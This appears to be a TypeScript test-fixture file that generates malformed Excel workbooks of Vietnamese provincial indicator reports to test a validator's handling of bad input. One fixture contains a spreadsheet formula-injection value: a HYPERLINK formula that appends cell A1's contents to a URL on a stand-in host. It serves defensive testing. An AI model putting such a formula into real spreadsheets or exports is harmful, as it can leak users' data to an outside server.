/**
 * Workbooks of the bad-input corpus that are real .xlsx files: broken catalogues, missing or odd
 * headers, Excel errors, formula-like text, NFD text, odd sheet names, huge cells, two actual columns.
 */
import type { Workbook } from 'exceljs';
import { CATALOGUE_COLUMNS, DATA_COLUMNS, GROUP, groupRow } from './fixture-layout';
import type { CatalogueEntry } from './fixture-layout';
import { rowsFor } from './fixture-model';
import { SAMPLE_CATALOGUE } from './fixture-sample-data';
import { addCatalogueSheet, addReportSheet } from './fixture-sheets';
import { errorValue, formula, newWorkbook, pct, writeTable } from './fixture-xlsx';
import type { TableRow } from './fixture-xlsx';

/** The six indicators every bad-input workbook uses. */
export const BAD_CATALOGUE: readonly CatalogueEntry[] = ['KT01', 'KT02', 'KT05', 'XH02', 'XH06', 'MT02'].map((code) => {
  const e = SAMPLE_CATALOGUE.find((x) => x.code === code);
  if (!e) throw new Error(code);
  return e;
});

const row = rowsFor(BAD_CATALOGUE);

/** A clean report on the six indicators (every band but unassessed, no issue). */
export function cleanRows(): TableRow[] {
  return [
    groupRow(...GROUP.kt),
    row('KT01', '7,62', undefined, { rate: 89.6 }),
    row('KT02', 3250, undefined, { rate: 72.2 }),
    row('KT05', 6940, undefined, { rate: 138.8, assess: 'Vượt' }),
    groupRow(...GROUP.vhxh),
    row('XH02', 412, undefined, { rate: 98.1 }),
    row('XH06', 13, undefined, { rate: 100, assess: 'Đạt' }),
    groupRow(...GROUP.mt),
    row('MT02', 5400, undefined, { rate: 60 }),
  ];
}

/** The valid baseline: catalogue and a clean half-year report. */
export function okBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  addReportSheet(wb, 'Báo cáo 6 tháng', cleanRows());
  return wb;
}

/** A report sheet only, no catalogue anywhere. */
export function dataOnlyBook(): Workbook {
  const wb = newWorkbook();
  addReportSheet(wb, 'Báo cáo 6 tháng', cleanRows());
  return wb;
}

/** The report sheet alone without a plan column: neither a catalogue nor a target column. */
export function dataOnlyNoTargetBook(): Workbook {
  const wb = newWorkbook();
  addReportSheet(wb, 'Báo cáo 6 tháng', cleanRows(), { columns: DATA_COLUMNS.filter((c) => c.key !== 'target') });
  return wb;
}

/** One empty sheet, as Excel's "new workbook" saves it. */
export function emptyBook(): Workbook {
  const wb = newWorkbook();
  wb.addWorksheet('Sheet1');
  return wb;
}

/** A catalogue whose rows break the rules: changed entries replace the originals by code. */
export function brokenCatalogueBook(entries: readonly CatalogueEntry[]): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, entries);
  addReportSheet(wb, 'Báo cáo 6 tháng', cleanRows());
  return wb;
}

/** The same entries with KT05's code repeated on another indicator. */
export function duplicateCodes(): CatalogueEntry[] {
  return [...BAD_CATALOGUE, { ...BAD_CATALOGUE[2], name: 'Kim ngạch xuất khẩu hàng hóa', target: 3000 }];
}

/** The same entries with one row lacking its name. */
export function missingName(): CatalogueEntry[] {
  return BAD_CATALOGUE.map((e) => (e.code === 'XH06' ? { ...e, name: '' } : e));
}

/** The same entries with an unreadable target and an unreadable direction. */
export function unreadableTargetDirection(): CatalogueEntry[] {
  return BAD_CATALOGUE.map((e) => (e.code === 'KT05' ? { ...e, target: 'chưa xác định' } : e.code === 'MT02' ? { ...e, direction: 'ngang' } : e));
}

/** A data sheet of numbers without any header row. */
export function noHeaderBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  const ws = wb.addWorksheet('Báo cáo 6 tháng');
  ws.getCell('A1').value = 'Số liệu dán từ phần mềm báo cáo (chưa có tiêu đề cột)';
  const lines: Array<[string, string, number, number]> = [
    ['KT01', 'Tốc độ tăng trưởng kinh tế (GRDP)', 8.5, 7.62],
    ['KT02', 'Tổng thu ngân sách nhà nước trên địa bàn', 4500, 3250],
    ['KT05', 'Kim ngạch xuất nhập khẩu hàng hóa qua các cửa khẩu', 5000, 6940],
  ];
  lines.forEach((line, i) => (ws.getRow(3 + i).values = line));
  return wb;
}

/** A data sheet whose header names code and name but has no actual column. */
export function noActualColumnBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  addReportSheet(wb, 'Báo cáo 6 tháng', cleanRows(), { columns: DATA_COLUMNS.filter((c) => c.key !== 'actual' && c.key !== 'rate') });
  return wb;
}

/** Header present, no data row below it. */
export function headerOnlyBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  addReportSheet(wb, 'Báo cáo 6 tháng', []);
  return wb;
}

/** A two-row header: every header cell merged over rows 4–5, "Ghi chú" merged over two columns. */
export function mergedHeaderBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  const ws = wb.addWorksheet('Báo cáo 6 tháng');
  const columns = [...DATA_COLUMNS, { key: 'note2', header: '' }];
  writeTable(ws, columns, [{ cells: { stt: null } }, ...cleanRows()], { titles: ['UBND TỈNH SƠN LÂM', 'BIỂU TỔNG HỢP KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU 6 THÁNG ĐẦU NĂM 2025'] });
  for (let c = 1; c <= DATA_COLUMNS.length - 1; c++) ws.mergeCells(4, c, 5, c);
  ws.mergeCells(4, DATA_COLUMNS.length, 5, DATA_COLUMNS.length + 1);
  return wb;
}

/** Actual and target cells holding Excel errors, as formulas with cached errors and as plain error values. */
export function formulaErrorsBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  addReportSheet(wb, 'Báo cáo 6 tháng', [
    groupRow(...GROUP.kt),
    row('KT01', formula('ROUND(L7/M7*100,1)', { error: '#DIV/0!' })),
    row('KT02', formula("VLOOKUP(B8,'Số liệu thu'!A:C,3,FALSE)", { error: '#N/A' })),
    row('KT05', formula('SUM(#REF!)', { error: '#REF!' })),
    groupRow(...GROUP.vhxh),
    row('XH02', errorValue('#VALUE!')),
    row('XH06', 13, undefined, { target: formula('1/0', { error: '#DIV/0!' }) }),
    groupRow(...GROUP.mt),
    row('MT02', errorValue('#N/A')),
  ]);
  return wb;
}

/** Names and notes that begin like formulas; an unknown row whose name is a HYPERLINK formula text. */
export function formulaLikeTextBook(): Workbook {
  const wb = newWorkbook();
  const entries = BAD_CATALOGUE.map((e) =>
    e.code === 'KT02' ? { ...e, name: '- Trong đó: thu nội địa' } : e.code === 'XH02' ? { ...e, name: '+ Trường đạt chuẩn quốc gia mức độ 1' } : e,
  );
  addCatalogueSheet(wb, entries);
  const r = rowsFor(entries);
  addReportSheet(wb, 'Báo cáo 6 tháng', [
    groupRow(...GROUP.kt),
    r('KT01', '7,62', undefined, { note: '=> Đạt 89,6% kế hoạch năm' }),
    r('KT02', 3250, undefined, { note: '@Sở Tài chính: đề nghị rà soát lại số thu' }),
    r('KT05', 6940, undefined, { note: '+38,8% so với kế hoạch' }),
    r('KT77', 1, { rules: ['unknown-indicator'] }, { name: '=HYPERLINK("https://example.invalid/?q="&A1,"Bấm để xem")', note: '=1+1', target: 1 }),
    groupRow(...GROUP.vhxh),
    r('XH02', 412, undefined, { note: '-8 trường so với kế hoạch' }),
    r('XH06', 13, undefined, { note: '=SUM(A1:A2) (công thức cũ đã bỏ)' }),
    groupRow(...GROUP.mt),
    r('MT02', 5400, undefined, { note: '@ghi chú: số ước' }),
  ]);
  return wb;
}

/** Catalogue in NFC, data sheet (headers, names, units) in NFD; two rows without a code, matched by name. */
export function nfdHeadersBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  const nfdColumns = DATA_COLUMNS.map((c) => ({ ...c, header: c.header.normalize('NFD') }));
  const rows = cleanRows().map((r, i) => {
    const cells: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(r.cells)) cells[k] = typeof v === 'string' ? v.normalize('NFD') : v;
    if (i === 2 || i === 5) cells.code = null;
    return { ...r, cells } as TableRow;
  });
  addReportSheet(wb, 'Báo cáo 6 tháng', rows, { columns: nfdColumns, titles: ['UBND TỈNH SƠN LÂM'.normalize('NFD'), 'BIỂU TỔNG HỢP KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU'.normalize('NFD')] });
  return wb;
}

/** A data sheet whose name holds double quotes and an apostrophe; one unknown code. */
export function quotedNameBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  addReportSheet(wb, 'Số liệu "nháp" (Phòng\'s)', [...cleanRows(), row('MT09', 12, { rules: ['unknown-indicator'] }, { name: 'Diện tích rừng được chi trả dịch vụ môi trường', unit: 'ha', target: 15 })]);
  return wb;
}

/** Sheets named like ChiTieu's own (Kiểm tra, Tổng hợp, Validation, Summary) all written by the user. */
export function ownedLookingBook(): Workbook {
  const wb = newWorkbook();
  const rows = cleanRows().map((r) => (r.cells.code === 'XH06' ? { ...r, cells: { ...r.cells, actual: null, rate: null, assess: null } } : r));
  addReportSheet(wb, 'Kiểm tra', rows);
  for (const name of ['Tổng hợp', 'Validation', 'Summary']) {
    const ws = wb.addWorksheet(name);
    ws.getCell('A1').value = `${name}: ghi chép của Phòng Tổng hợp`;
    ws.getCell('A3').value = 'Lĩnh vực';
    ws.getCell('B3').value = 'Số chỉ tiêu';
    ws.getCell('A4').value = 'Kinh tế';
    ws.getCell('B4').value = 3;
    ws.getCell('A5').value = 'Văn hóa – Xã hội';
    ws.getCell('B5').value = 2;
  }
  return wb;
}

/** Cells at Excel's 32 767-character limit: a differing name (name-mismatch) and a reason. */
export function hugeCellBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  const sentence = 'Số liệu được tổng hợp từ báo cáo của các huyện, thành phố và các sở, ngành; đã đối chiếu với số liệu của Cục Thống kê tỉnh. ';
  const fill = (prefix: string): string => (prefix + sentence.repeat(Math.ceil(32767 / sentence.length))).slice(0, 32767);
  const rows = cleanRows().map((r) => {
    if (r.cells.code === 'KT02') return { ...r, cells: { ...r.cells, name: fill('Tổng thu ngân sách nhà nước trên địa bàn – giải trình: ') }, expect: { rules: ['name-mismatch' as const] } };
    if (r.cells.code === 'MT02') return { ...r, cells: { ...r.cells, override: 'Đạt từ 70% đến dưới 100%', reason: fill('Lý do: ') } };
    return r;
  });
  addReportSheet(wb, 'Báo cáo 6 tháng', rows);
  return wb;
}

/** Two actual columns (2023 and 2024); the rightmost is clean, the left one would raise errors. */
export function twoActualColumnsBook(): Workbook {
  const wb = newWorkbook();
  addCatalogueSheet(wb, BAD_CATALOGUE);
  const columns = [
    ...DATA_COLUMNS.slice(0, 4),
    { key: 'target', header: 'Kế hoạch năm 2024' },
    { key: 'actual23', header: 'Thực hiện 2023' },
    { key: 'actual', header: 'Thực hiện 2024' },
    { key: 'note', header: 'Ghi chú' },
  ];
  const old: Record<string, unknown> = { KT01: 'đang cập nhật', KT02: formula('1/0', { error: '#DIV/0!' }), KT05: 5120, XH02: 396, XH06: '12,4', MT02: pct(0.55) };
  const rows = cleanRows().map((r) => (typeof r.cells.code === 'string' ? ({ ...r, cells: { ...r.cells, actual23: old[r.cells.code] } } as TableRow) : r));
  addReportSheet(wb, 'So sánh 2023–2024', rows, { columns, titles: ['UBND TỈNH SƠN LÂM', 'KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU NĂM 2023 VÀ NĂM 2024'] });
  return wb;
}

/** The catalogue columns, for CSV fixtures. */
export const BAD_CATALOGUE_COLUMNS = CATALOGUE_COLUMNS;
